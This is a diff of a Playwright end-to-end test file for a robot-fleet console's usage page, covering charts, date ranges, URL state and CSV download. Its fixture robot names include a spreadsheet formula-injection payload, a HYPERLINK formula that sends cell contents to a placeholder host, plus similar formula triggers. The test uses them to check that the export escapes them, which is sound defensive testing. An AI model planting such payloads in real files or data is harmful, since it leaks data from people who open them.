@@ -19,7 +19,6 @@ const TODAY_MS = Math.floor(Date.now() / DAY_MS) * DAY_MS;
 
 /** The name of a robot that a spreadsheet would run as a formula. */
 const FORMULA = '=HYPERLINK("http://x/?"&A1,"y")';
-/** More robots than the chart has colours. */
 const ROBOTS = [FORMULA, "-2+3", "@sum", "arm, left", "arm-5", "arm-6", "arm-7", "arm-8"];
 
 /** Fills the ledger: robot `i` was served `max(1, 8 - i)` hours on each of the last `days` days. */
@@ -66,73 +65,47 @@ describeConsole("usage", startUsed, (running) => {
 
   const totalOf = async (page: Page) => (await page.locator("dd").first().innerText()).trim();
 
-  /** The last 30 days by the calendar, today among them. */
-  const DATES = `/usage?from=${dayOf(TODAY_MS - 29 * DAY_MS)}&to=${dayOf(TODAY_MS)}`;
-
   it("chart → all days, also those without usage, and a sentence that sums them up", async () => {
-    const page = await open(DATES);
+    const page = await open("/usage");
     // 29 days of 36 hours each, and none today.
-    const sentence = `Hours by day, stacked by robot: 1,044 hours in 30 days; the most on ${wordOf(TODAY_MS - 29 * DAY_MS)}, 36 hours. Most used: ${FORMULA}, 232 hours.`;
+    const sentence = `Hours by day: 1,044 hours in 30 days; the most on ${wordOf(TODAY_MS - 29 * DAY_MS)}, 36 hours.`;
     await page.getByRole("img", { name: sentence }).waitFor();
     expect(await totalOf(page)).toBe("1,044 h");
-    expect(await page.locator(".usage-bar").count()).toBe(30);
-    expect(await page.locator(".usage-bar").last().locator(".usage-part").count()).toBe(0);
-    // Six robots with a colour of their own, and one part for the others.
-    expect(await page.locator(".usage-bar").first().locator(".usage-part").count()).toBe(7);
-  });
-
-  it("no range, or one of too many days → the last 30 times 24 hours, as on the command line", async () => {
-    const page = await open("/usage?days=7");
-    // The request for seven days may still be running.
-    const requested = page.waitForRequest((request) => {
-      const { pathname, searchParams } = new URL(request.url());
-      const moment = (name: string) => Date.parse(searchParams.get(name) ?? "");
-      return pathname === "/v1/me/usage/summary" && moment("until") - moment("since") === 30 * DAY_MS;
-    });
-    await page.getByLabel("Time", { exact: true }).selectOption("Last 30 days");
-    await requested;
-    await page.getByRole("img", { name: /hours in 30 days/ }).waitFor();
-    expect(new URL(page.url()).search).toBe("");
-    // More days than the page can show.
-    await page.goto(`${running().url}/usage?days=4000`);
-    expect(await page.getByLabel("Time", { exact: true }).inputValue()).toBe("30");
-  });
-
-  it.each([1, 400])("last %d days, then days to choose → as many whole days, today the last", async (count) => {
-    const page = await open(`/usage?days=${count}`);
-    const time = page.getByLabel("Time", { exact: true });
-    expect(await time.locator("option:checked").innerText()).toBe(`Last ${count} ${count === 1 ? "day" : "days"}`);
-    await time.selectOption("From a day to a day…");
-    await page.getByLabel("Last day").waitFor();
-    const { searchParams } = new URL(page.url());
-    const [from, to] = ["from", "to"].map((name) => Date.parse(searchParams.get(name) ?? ""));
-    expect([(Number(to) - Number(from)) / DAY_MS + 1, Number(to) - TODAY_MS]).toEqual([
-      count,
-      expect.toSatisfy((ms) => ms <= DAY_MS),
-    ]);
-    await page.getByRole("heading", { name: count === 1 ? "Nothing was used in this time" : "By day" }).waitFor();
-  });
-
-  it("table opened with the keyboard → every number of the chart", async () => {
-    const page = await open(DATES);
+    const heights = await page
+      .locator(".usage-bar rect:first-child")
+      .evaluateAll((bars) => bars.map((bar) => Number(bar.getAttribute("height"))));
+    expect(heights.map((height) => height > 0)).toEqual(Array.from({ length: 30 }, (_, index) => index < 29));
     await page.getByText("The days as a table").focus();
     await page.keyboard.press("Enter");
-    const days = page.getByRole("table", { name: "Hours by day" });
-    expect(await days.getByRole("columnheader").allInnerTexts()).toEqual([
-      "Day",
-      "All",
-      ...ROBOTS.slice(0, 6),
-      "Others",
-    ]);
-    const row = days.getByRole("row", { name: new RegExp(`^${wordOf(TODAY_MS - DAY_MS)}`) });
-    expect(await row.getByRole("cell").allInnerTexts()).toEqual(["36", "8", "7", "6", "5", "4", "3", "3"]);
-    expect(await days.getByRole("row").nth(1).getByRole("cell").first().innerText()).toBe("–");
+    const rows = page.getByRole("table", { name: "Hours by day" }).getByRole("row");
+    expect(await rows.last().innerText()).toMatch(/–$/);
+    expect(await rows.nth(29).innerText()).toBe(`${wordOf(TODAY_MS - DAY_MS)}\t36`);
     expect(await violations(page)).toEqual([]);
+  });
+
+  it("last month → its first to its last day", async () => {
+    const page = await open("/usage");
+    const now = new Date(TODAY_MS);
+    const first = Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 1, 1);
+    const end = Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), 1);
+    const requested = page.waitForRequest((request) => {
+      const { searchParams } = new URL(request.url());
+      const range = ["since", "until"].map((name) => Date.parse(searchParams.get(name) ?? ""));
+      return range[0] === first && range[1] === end && searchParams.get("by") === "robot";
+    });
+    await page.getByLabel("Time", { exact: true }).selectOption("Last month");
+    await requested;
+    expect(new URL(page.url()).search).toBe("?time=last-month");
+    await page.getByLabel("Time", { exact: true }).selectOption("From a day to a day…");
+    expect(await page.getByLabel("First day").inputValue()).toBe(dayOf(first));
+    expect(await page.getByLabel("Last day").inputValue()).toBe(dayOf(end - DAY_MS));
+    await page.getByLabel("Time", { exact: true }).selectOption("Last 30 days");
+    await expect.poll(() => new URL(page.url()).search).toBe("");
   });
 
   it("grouped by model, another range → both in the URL, restored by a reload", async () => {
     const page = await open("/usage");
-    await page.getByLabel("Stacked by", { exact: true }).selectOption("Model");
+    await page.getByLabel("Group by", { exact: true }).selectOption("Model");
     await page.getByRole("link", { name: "act" }).waitFor();
     await page.getByLabel("Time", { exact: true }).selectOption("From a day to a day…");
     const first = dayOf(TODAY_MS - 3 * DAY_MS);
@@ -141,7 +114,7 @@ describeConsole("usage", startUsed, (running) => {
     await expect.poll(() => totalOf(page)).toBe("108 h");
     expect(new URL(page.url()).search).toBe(`?by=model&from=${first}&to=${YESTERDAY}`);
     await page.reload();
-    await page.getByRole("img", { name: /^Hours by day, stacked by model: 108 hours in 3 days/ }).waitFor();
+    await page.getByRole("img", { name: /^Hours by day: 108 hours in 3 days/ }).waitFor();
     const rows = await page.getByRole("table", { name: "Usage by model" }).locator("tbody tr").allInnerTexts();
     expect(rows.map((row) => row.split(/\s+/).slice(0, 4))).toEqual([
       ["pi", "60", "55.6", "%"],
@@ -149,43 +122,43 @@ describeConsole("usage", startUsed, (running) => {
     ]);
   });
 
-  it.each([
-    [`?from=${YESTERDAY}&to=2020-01-01`, "The last day is before the first."],
-    ["?from=2020-01-01&to=2025-01-01", "Choose at most 400 days; these are 1828."],
-    ["?from=tomorrow", "Choose a first and a last day."],
-  ])("%s → says %j, sends no request", async (query, problem) => {
-    const before = running().requests.length;
-    const page = await open(`/usage${query}`);
-    await page.getByText(problem).waitFor();
-    const paths = running()
-      .requests.slice(before)
-      .map(({ path }) => path);
-    expect(paths.filter((path) => path.includes("/usage/summary"))).toEqual([]);
-  });
+  it.each([`?from=${YESTERDAY}&to=2020-01-01`, "?from=tomorrow"])(
+    "%s → asks for days, sends no request",
+    async (query) => {
+      const before = running().requests.length;
+      const page = await open(`/usage${query}`);
+      await page.getByText("Choose a first day, and a last day that is not before it.").waitFor();
+      const paths = running()
+        .requests.slice(before)
+        .map(({ path }) => path);
+      expect(paths.filter((path) => path.includes("/usage/summary"))).toEqual([]);
+    },
+  );
 
-  it("CSV download → no name that a spreadsheet runs as a formula", async () => {
-    const page = await open(`/usage?from=${YESTERDAY}&to=${YESTERDAY}`);
+  it("CSV download → a line for each robot, no name that a spreadsheet runs as a formula", async () => {
+    const [first, last] = [dayOf(TODAY_MS - 2 * DAY_MS), YESTERDAY];
+    const page = await open(`/usage?from=${first}&to=${last}`);
     const [download] = await Promise.all([
       page.waitForEvent("download"),
       page.getByRole("button", { name: "Download CSV" }).click(),
     ]);
-    expect(download.suggestedFilename()).toBe(`usage-${YESTERDAY}-to-${YESTERDAY}-by-robot.csv`);
+    expect(download.suggestedFilename()).toBe(`usage-${first}-to-${last}-by-robot.csv`);
     const text = await readFile(await download.path(), "utf8");
     expect(text.split("\r\n")).toEqual([
-      "\uFEFFday,robot,seconds,hours",
-      `${YESTERDAY},"'=HYPERLINK(""http://x/?""&A1,""y"")",28800,8.0000`,
-      `${YESTERDAY},"'-2+3",25200,7.0000`,
-      `${YESTERDAY},"'@sum",21600,6.0000`,
-      `${YESTERDAY},"arm, left",18000,5.0000`,
-      `${YESTERDAY},arm-5,14400,4.0000`,
-      `${YESTERDAY},arm-6,10800,3.0000`,
-      `${YESTERDAY},arm-7,7200,2.0000`,
-      `${YESTERDAY},arm-8,3600,1.0000`,
+      "\uFEFFrobot,seconds,hours",
+      `"'=HYPERLINK(""http://x/?""&A1,""y"")",57600,16.0000`,
+      `"'-2+3",50400,14.0000`,
+      `"'@sum",43200,12.0000`,
+      `"arm, left",36000,10.0000`,
+      "arm-5,28800,8.0000",
+      "arm-6,21600,6.0000",
+      "arm-7,14400,4.0000",
+      "arm-8,7200,2.0000",
       "",
     ]);
   });
 
-  it("large range → requested in parts, one result", async () => {
+  it("more sums by day and robot than the service answers with → two requests, all hours", async () => {
     const large = await startConsole();
     onTestFinished(() => large[Symbol.asyncDispose]());
     const robots = Array.from({ length: 600 }, (_, index) => `arm-${index}`);
@@ -195,8 +168,10 @@ describeConsole("usage", startUsed, (running) => {
     // 8 + 7 + … + 2 hours of the first seven, one of each other, on 40 days.
     await page.getByRole("img", { name: /: 25,120 hours in 40 days/ }).waitFor();
     const requests = large.requests.slice(before).filter(({ path }) => path.includes("/usage/summary"));
-    expect(requests.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
-    expect(await page.locator(".usage-bar").first().locator(".usage-part").count()).toBe(7);
+    expect(requests.map(({ status }) => status)).toEqual([200, 200]);
+    // The service's own limit.
+    await page.goto(`${large.url}/usage?from=2020-01-01&to=2025-01-01`);
+    await page.getByText("A summary covers at most 400 days.").waitFor();
   });
 
   it("range without usage → says so; service fails → keeps the last answer", async () => {
